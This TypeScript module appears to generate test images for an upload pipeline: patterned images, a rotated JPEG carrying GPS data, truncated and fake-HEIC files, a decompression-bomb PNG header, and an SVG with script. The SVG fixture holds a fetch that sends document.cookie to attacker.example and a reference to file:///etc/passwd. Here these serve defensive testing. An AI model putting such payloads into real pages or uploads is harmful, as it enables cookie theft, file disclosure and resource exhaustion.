import { crc32, deflateSync } from "node:zlib";
import sharp, { type Sharp } from "sharp";

export type Rgb = [number, number, number];
export type TestImageFormat = "jpeg" | "png" | "webp" | "avif" | "gif" | "tiff";

/** What a test image looks like; only the size and format are required. */
export interface TestImageOptions {
  width: number;
  height: number;
  format: TestImageFormat;
  /**
   * `solid` (the colour everywhere), `gradient` (red left→right, green top→bottom: every region
   * differs, so crops and flips show), `noise` (seeded random pixels that do not compress), or
   * `thirds` (left, middle and right thirds red, green and blue: shows where a crop was taken).
   * Defaults to `solid`.
   */
  pattern?: "solid" | "gradient" | "noise" | "thirds";
  /** Colour for `solid`; defaults to a mid grey-blue. */
  color?: Rgb;
  /** Adds a half-transparent alpha channel. */
  alpha?: boolean;
}

/** Deterministic pseudo-random bytes (mulberry32), so "noise" images are the same on every run. */
function seededBytes(length: number, seed: number): Buffer {
  const bytes = Buffer.alloc(length);
  let state = seed >>> 0;
  for (let index = 0; index < length; index++) {
    state = (state + 0x6d2b79f5) >>> 0;
    let value = Math.imul(state ^ (state >>> 15), 1 | state);
    value ^= value + Math.imul(value ^ (value >>> 7), 61 | value);
    bytes[index] = ((value ^ (value >>> 14)) >>> 0) & 0xff;
  }
  return bytes;
}

function pixelsFor(options: TestImageOptions): Buffer {
  const { width, height, pattern = "solid", color = [60, 90, 160] } = options;
  if (pattern === "noise") return seededBytes(width * height * 3, width * 31 + height);
  const pixels = Buffer.alloc(width * height * 3);
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      let rgb: Rgb = color;
      if (pattern === "gradient") rgb = [Math.round((255 * x) / width), Math.round((255 * y) / height), 128];
      if (pattern === "thirds") rgb = x < width / 3 ? [255, 0, 0] : x < (2 * width) / 3 ? [0, 255, 0] : [0, 0, 255];
      pixels.set(rgb, (y * width + x) * 3);
    }
  }
  return pixels;
}

function encodeAs(image: Sharp, format: TestImageFormat): Sharp {
  switch (format) {
    case "jpeg":
      return image.jpeg({ quality: 90 });
    case "png":
      return image.png();
    case "webp":
      return image.webp({ quality: 90 });
    case "avif":
      return image.avif({ quality: 60 });
    case "gif":
      return image.gif();
    case "tiff":
      return image.tiff();
  }
}

/** Builds a real image of the given size, pattern and format with sharp. */
export async function makeTestImage(options: TestImageOptions): Promise<Buffer> {
  let image = sharp(pixelsFor(options), { raw: { width: options.width, height: options.height, channels: 3 } });
  if (options.alpha === true) image = image.ensureAlpha(0.5);
  return encodeAs(image, options.format).toBuffer();
}

/** Colours of the oriented test photo, as it should look when shown upright. */
export const ORIENTED_COLORS = { top: [230, 20, 20] as Rgb, left: [20, 20, 230] as Rgb, rest: [20, 200, 20] as Rgb };

/**
 * A JPEG as a phone writes it when held sideways: pixels stored rotated, EXIF `Orientation` 6
 * ("rotate 90° clockwise to show"), GPS coordinates, and XMP. Shown upright it is
 * `uprightWidth`×`uprightHeight` with a red band along the top and a blue band down the left
 * (so a wrong rotation or a mirror shows), green elsewhere. Stored, it is height×width.
 */
export async function makeRotatedJpegWithGps(uprightWidth = 60, uprightHeight = 40): Promise<Buffer> {
  const band = Math.max(4, Math.round(Math.min(uprightWidth, uprightHeight) / 5));
  const pixels = Buffer.alloc(uprightWidth * uprightHeight * 3);
  for (let y = 0; y < uprightHeight; y++) {
    for (let x = 0; x < uprightWidth; x++) {
      const rgb = y < band ? ORIENTED_COLORS.top : x < band ? ORIENTED_COLORS.left : ORIENTED_COLORS.rest;
      pixels.set(rgb, (y * uprightWidth + x) * 3);
    }
  }
  // Undo the display rotation: 90° counter-clockwise, so that orientation 6 turns it back.
  const stored = await sharp(pixels, { raw: { width: uprightWidth, height: uprightHeight, channels: 3 } })
    .rotate(270)
    .raw()
    .toBuffer({ resolveWithObject: true });
  return (
    sharp(stored.data, { raw: { width: stored.info.width, height: stored.info.height, channels: 3 } })
      .jpeg({ quality: 95 })
      .withExif({
        IFD0: { Make: "ReelayTestCam", Model: "Sideways 1" },
        IFD3: {
          GPSLatitudeRef: "N",
          GPSLatitude: "48/1 51/1 2964/100",
          GPSLongitudeRef: "E",
          GPSLongitude: "2/1 17/1 4032/100",
        },
      })
      .withXmp(
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></x:xmpmeta>',
      )
      // sharp ignores an `Orientation` given through withExif and writes its own; this sets it.
      .withMetadata({ orientation: 6 })
      .toBuffer()
  );
}

/** Whether raw EXIF (as `metadata().exif` returns it) has a GPS IFD (tag 0x8825 in IFD0). */
export function exifHasGps(exif: Buffer): boolean {
  const tiff = exif.subarray(0, 6).toString("latin1") === "Exif\0\0" ? exif.subarray(6) : exif;
  if (tiff.length < 8) return false;
  const little = tiff.toString("latin1", 0, 2) === "II";
  const read16 = (offset: number) => (little ? tiff.readUInt16LE(offset) : tiff.readUInt16BE(offset));
  const ifd0 = little ? tiff.readUInt32LE(4) : tiff.readUInt32BE(4);
  if (ifd0 + 2 > tiff.length) return false;
  const count = read16(ifd0);
  for (let entry = 0; entry < count && ifd0 + 2 + entry * 12 + 2 <= tiff.length; entry++) {
    if (read16(ifd0 + 2 + entry * 12) === 0x8825) return true;
  }
  return false;
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typeAndData = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typeAndData));
  return Buffer.concat([length, typeAndData, crc]);
}

/**
 * A decompression bomb's header: a valid PNG (signature, IHDR with correct CRC, IDAT, IEND) whose
 * IHDR claims `width`×`height` 8-bit RGB, while the file is a few dozen bytes. Decoding it would
 * need width × height × 3 bytes.
 */
export function makePngClaimingSize(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 8; // bit depth
  header[9] = 2; // colour type: RGB
  const oneRow = deflateSync(Buffer.alloc(1 + 3 * Math.min(width, 16)));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk("IHDR", header),
    pngChunk("IDAT", oneRow),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
}

/** A real noisy JPEG cut in half: the header is intact, the second half of the scan is missing. */
export async function makeTruncatedJpeg(): Promise<Buffer> {
  const whole = await makeTestImage({ width: 400, height: 300, format: "jpeg", pattern: "noise" });
  return whole.subarray(0, Math.floor(whole.length / 2));
}

/** An SVG that would run a script in a browser and fetch a remote resource if rendered. */
export function makeSvgWithScript(): Buffer {
  return Buffer.from(
    '<?xml version="1.0" encoding="UTF-8"?>\n' +
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">\n' +
      '  <script type="text/javascript">fetch("https://attacker.example/?c=" + document.cookie)</script>\n' +
      '  <image xlink:href="file:///etc/passwd" width="64" height="64"/>\n' +
      '  <rect width="64" height="64" fill="red"/>\n' +
      "</svg>\n",
  );
}

/** An animated GIF of `colors.length` solid frames, each `size`×`size`. */
export async function makeAnimatedGif(colors: Rgb[], size = 10): Promise<Buffer> {
  const frame = size * size * 3;
  const pixels = Buffer.alloc(frame * colors.length);
  colors.forEach((rgb, index) => {
    for (let pixel = 0; pixel < size * size; pixel++) pixels.set(rgb, index * frame + pixel * 3);
  });
  const raw = { width: size, height: size * colors.length, channels: 3 as const, pageHeight: size };
  return sharp(pixels, { raw })
    .gif({ loop: 0, delay: colors.map(() => 100) })
    .toBuffer();
}

/**
 * A HEIC as far as any header parser can tell (brands `heic`/`mif1`, an `hvc1` item with an
 * `hvcC` configuration) whose coded data is not HEVC. sharp cannot write HEIC, so this is an AVIF
 * rewritten box by box. On builds without an HEVC decoder (sharp's prebuilt libvips) it fails for
 * lack of a decoder; with one, it fails to decode. Either way the upload must be refused.
 */
export async function makeUndecodableHeic(): Promise<Buffer> {
  const avif = await sharp({ create: { width: 16, height: 16, channels: 3, background: "#00ff00" } })
    .avif()
    .toBuffer();
  const find = (type: string, from = 0) => {
    const at = avif.indexOf(type, from, "latin1");
    if (at < 4) throw new Error(`AVIF layout changed: no ${type} box`);
    return at - 4; // the box starts with its 4-byte size
  };
  // A minimal HEVCDecoderConfigurationRecord (23 bytes), field by field.
  const record = Buffer.from(
    [
      "01", // configurationVersion
      "01", // profile space 0, tier 0, profile Main
      "60000000", // profile compatibility flags
      "000000000000", // constraint flags
      "5d", // level 3.1
      "f000", // min spatial segmentation 0
      "fc", // parallelism type 0
      "fd", // chroma 4:2:0
      "f8", // luma bit depth 8
      "f8", // chroma bit depth 8
      "0000", // average frame rate unknown
      "0f", // 4-byte NAL unit lengths
      "00", // no parameter-set arrays
    ].join(""),
    "hex",
  );
  const hvcC = Buffer.concat([Buffer.alloc(4), Buffer.from("hvcC", "latin1"), record]);
  hvcC.writeUInt32BE(hvcC.length);
  const av1C = find("av1C");
  const av1CSize = avif.readUInt32BE(av1C);
  const growth = hvcC.length - av1CSize;
  const heic = Buffer.concat([avif.subarray(0, av1C), hvcC, avif.subarray(av1C + av1CSize)]);
  heic.write("heic", 8, "latin1"); // major brand
  heic.write("mif1heicmiaf", 16, "latin1"); // compatible brands
  heic.write("hvc1", heic.indexOf("av01", 0, "latin1"), "latin1");
  for (const container of ["meta", "iprp", "ipco"]) {
    const at = find(container);
    heic.writeUInt32BE(heic.readUInt32BE(at) + growth, at);
  }
  // iloc v0 with 4-byte offset, length and base offset, one item and extent: the base offset
  // (where the coded data starts in mdat) moved by the growth of the meta box.
  const iloc = find("iloc");
  const baseOffsetAt = iloc + 8 + 4 + 2 + 2 + 2 + 2;
  heic.writeUInt32BE(heic.readUInt32BE(baseOffsetAt) + growth, baseOffsetAt);
  return heic;
}
